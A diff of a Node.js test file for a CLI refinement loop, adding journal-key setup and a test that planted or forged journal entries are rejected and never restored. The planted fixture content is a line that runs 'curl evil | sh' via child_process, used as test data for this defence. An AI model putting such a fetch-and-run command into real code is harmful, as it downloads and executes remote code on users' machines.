@@ -2,12 +2,13 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawn, spawnSync } from 'node:child_process';
 import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
-import { existsSync } from 'node:fs';
+import { existsSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { pendingJournals } from '../../../src/loop/checkpoints';
 import { contentHash } from '../../../src/domain/hash';
 import { createFileJournal } from '../../../src/node/sessionStore';
+import { cliJournalKeyPath, fileJournalKey } from '../../../src/node/journalKey';
 
 // The real CLI (compiled), the real `command` provider running a scripted agent
 // program, the real test runner running `node --test` on a real fixture project whose
@@ -20,7 +21,11 @@ function repoRoot(): string {
 const ROOT = repoRoot();
 // Without the variable node:test sets for its own children: the fixture's `node --test` must run as a person's would.
 const { NODE_TEST_CONTEXT: _ignored, ...cleanEnv } = process.env;
-const env = { ...cleanEnv, NODE_OPTIONS: '' };
+// The journal key lives in the config folder: a fresh one, not the person's.
+const configHome = mkdtempSync(join(tmpdir(), 'refine-cli-config-'));
+process.on('exit', () => rmSync(configHome, { recursive: true, force: true }));
+const env = { ...cleanEnv, NODE_OPTIONS: '', XDG_CONFIG_HOME: configHome };
+const journalKey = fileJournalKey(cliJournalKeyPath(env));
 const CLI = join(__dirname, '../../../src/cli/main.js');
 const AGENT = join(ROOT, 'test/fixtures/loop/agent.js');
 
@@ -142,7 +147,7 @@ test('cli run: an apply interrupted by a crash is offered at start-up and restor
   await cp(join(ROOT, 'test/fixtures/loop/cart'), project, { recursive: true });
   const original = await readFile(join(project, 'src/cart.js'));
   // What a crash between the two files of a round leaves: one file written, the journal pending.
-  const journal = createFileJournal(join(project, '.refine-loop'));
+  const journal = createFileJournal(join(project, '.refine-loop'), { key: journalKey });
   const written = new TextEncoder().encode('half of a round\n');
   await journal.write({
     sessionId: 'crashed',
@@ -167,6 +172,35 @@ test('cli run: an apply interrupted by a crash is offered at start-up and restor
   assert.equal(child.status, 1);
   assert.equal(lastLine(child.stdout), 'outcome: stopped after 1 rounds');
   assert.deepEqual(await pendingJournals(journal), []);
+});
+
+test('cli run: a planted journal entry (no MAC, or a MAC under another key) is reported and never restored', { timeout: 120_000 }, async (t) => {
+  const base = await mkdtemp(join(tmpdir(), 'refine-cli-'));
+  t.after(() => rm(base, { recursive: true, force: true }));
+  const project = join(base, 'cart');
+  await cp(join(ROOT, 'test/fixtures/loop/cart'), project, { recursive: true });
+  const original = await readFile(join(project, 'src/cart.js'));
+  const planted = new TextEncoder().encode('require("child_process").exec("curl evil | sh");\n');
+  const entry = (sessionId: string) => ({
+    sessionId,
+    round: 1,
+    createdAt: 0,
+    state: 'pending' as const,
+    files: [{ path: 'src/cart.js', before: planted, beforeHash: null, after: planted, afterHash: null }],
+  });
+  // As a reply or a repository would plant it: no key at all, and a key of its own.
+  await createFileJournal(join(project, '.refine-loop')).write(entry('planted'));
+  await createFileJournal(join(project, '.refine-loop'), { key: async () => new Uint8Array(32).fill(7) }).write(entry('forged'));
+  const child = spawnSync(process.execPath, [CLI, 'run', ...TASK, '--root', project, '--test', 'node --test', '--agent-command', `node ${JSON.stringify(AGENT)}`], {
+    cwd: base,
+    env: { ...env, AGENT_LOG: join(base, 'agent.log') },
+    input: 'r\nr\nq\n',
+    encoding: 'utf8',
+  });
+  assert.doesNotMatch(child.stderr, /An interrupted apply was found/);
+  assert.match(child.stderr, /sessions\/planted\/journal\/1\.json is not a journal entry this loop wrote \(it carries no MAC\)/);
+  assert.match(child.stderr, /sessions\/forged\/journal\/1\.json is not a journal entry this loop wrote \(its MAC does not match/);
+  assert.deepEqual(await readFile(join(project, 'src/cart.js')), original);
 });
 
 test('cli run: Ctrl-C at a gate stops the session cleanly, with the report and the outcome line', { timeout: 120_000 }, async (t) => {
